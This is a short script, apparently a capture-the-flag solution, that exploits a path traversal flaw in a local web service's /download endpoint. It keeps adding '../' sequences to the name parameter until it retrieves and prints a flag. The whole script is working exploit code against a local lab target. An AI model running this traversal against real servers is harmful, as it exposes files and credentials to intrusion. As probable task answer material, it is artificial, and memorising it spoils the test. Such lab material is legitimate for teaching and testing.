#!/bin/bash
# The name is joined onto the public folder unchecked: walk up with ../ until flag.txt is found.
set -e
python3 - <<'PY'
import re, urllib.parse, urllib.request, urllib.error
for depth in range(1, 8):
    name = "../" * depth + "flag.txt"
    try:
        body = urllib.request.urlopen("http://127.0.0.1:8104/download?name=" + urllib.parse.quote(name)).read().decode()
    except urllib.error.HTTPError:
        continue
    m = re.search(r"flag\{[^}]+\}", body)
    if m:
        print(m.group(0)); break
PY
